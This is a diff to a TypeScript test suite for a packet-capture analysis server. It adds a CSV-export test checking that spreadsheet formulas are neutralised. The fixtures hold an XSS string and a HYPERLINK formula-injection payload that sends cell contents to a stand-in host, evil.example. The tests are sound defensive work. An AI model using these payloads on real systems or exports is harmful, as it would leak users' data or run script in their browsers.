@@ -18,6 +18,7 @@ const mixed = readJson<{ sessions: TsharkSession[]; home_bytes_in: number; home_
 const smtp = readJson<{ sent_by_construction: { attachments: { sha256: string; filename: string }[] }[] }>(join(GEN, 'expected/smtp-attachments.pcap.json'));
 const dir = scratchDir('server-api');
 const HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>';
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 let srv: TestServer;
 let viewer: Client;
 let analyst: Client;
@@ -28,6 +29,9 @@ beforeAll(async () => {
   const hostile = join(dir, 'hostile.pcap');
   writeFileSync(hostile, conversationsPcap(tcpConversation({ dport: 80, client: '10.9.9.9', server: '10.9.9.10', start: Date.UTC(2030, 0, 2) * 1000 }, [
     { from: 'client', data: `GET /${encodeURI(HOSTILE)} HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: ${HOSTILE}\r\n\r\n` },
+    { from: 'server', data: 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' },
+  ]), tcpConversation({ dport: 80, client: '10.9.9.9', server: '10.9.9.10', sport: 40001, start: Date.UTC(2030, 0, 2) * 1000 + 10 }, [
+    { from: 'client', data: `GET /f HTTP/1.1\r\nHost: formula.example\r\nUser-Agent: ${FORMULA}\r\n\r\n` },
     { from: 'server', data: 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' },
   ])));
   const s = await ingest(srv.store, [join(GEN, 'mixed-home.pcap'), join(GEN, 'smtp-attachments.pcap'), hostile], { homeNet: ['127.0.0.0/24'] });
@@ -95,8 +99,8 @@ describe('records', () => {
   it('takes a time range (ISO, latest-DUR) and a display time zone, and refuses a bad zone', async () => {
     const all = (await viewer.get(`/api/summary/sessions?q=${encodeURIComponent(MIXED_FILTER)}&from=2000-01-01&to=now`)).json.count;
     expect(all).toBe(mixed.sessions.length);
-    // the hostile capture is the newest data (2030-01-02); a minute before it holds only its session
-    expect((await viewer.get('/api/summary/sessions?from=latest-1m')).json.count).toBe(1);
+    // the hostile capture is the newest data (2030-01-02); a minute before it holds only its two sessions
+    expect((await viewer.get('/api/summary/sessions?from=latest-1m')).json.count).toBe(2);
     expect((await viewer.get('/api/records/sessions?tz=Europe/Berlin&limit=1')).json.tz).toBe('Europe/Berlin');
     expect((await viewer.get('/api/records/sessions?tz=Mars/Olympus')).status).toBe(400);
     expect((await viewer.get('/api/records/sessions?from=2026-02-01&to=2026-01-01')).status).toBe(400);
@@ -153,6 +157,24 @@ describe('stored HTML and script', () => {
     // JSON, not markup: the raw text is inside a JSON string
     expect(r.text).toContain(JSON.stringify(HOSTILE).slice(1, -1));
     expect(() => JSON.parse(r.text)).not.toThrow();
+  });
+});
+
+describe('export', () => {
+  it('streams every matching row as a CSV attachment, formulas neutralised, and JSON lines exact', async () => {
+    const r = await viewer.get(`/api/export/sessions?q=${encodeURIComponent(MIXED_FILTER)}&fields=uid,proto,src_ip,dst_port`);
+    expect(r.status).toBe(200);
+    expect(r.headers['content-type']).toBe('application/octet-stream');
+    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="haystack-sessions-[0-9-]+\.csv"$/);
+    const lines = r.text.trim().split('\n');
+    expect(lines[0]).toBe('uid,proto,src_ip,dst_port');
+    expect(lines).toHaveLength(mixed.sessions.length + 1);
+    const csv = (await viewer.get(`/api/export/http?q=${encodeURIComponent('host = "formula.example"')}&fields=host,user_agent`)).text;
+    expect(csv).toBe(`host,user_agent\nformula.example,"'${FORMULA.replaceAll('"', '""')}"\n`);
+    const jsonl = (await viewer.get(`/api/export/http?q=${encodeURIComponent('host = "formula.example"')}&fields=user_agent&format=jsonl`)).text;
+    expect(JSON.parse(jsonl.trim())).toEqual({ user_agent: FORMULA });
+    expect((await viewer.get('/api/export/alerts?fields=payload_excerpt')).status).toBe(403);
+    expect((await viewer.get('/api/export/sessions?fields=nope')).status).toBe(400);
   });
 });
 
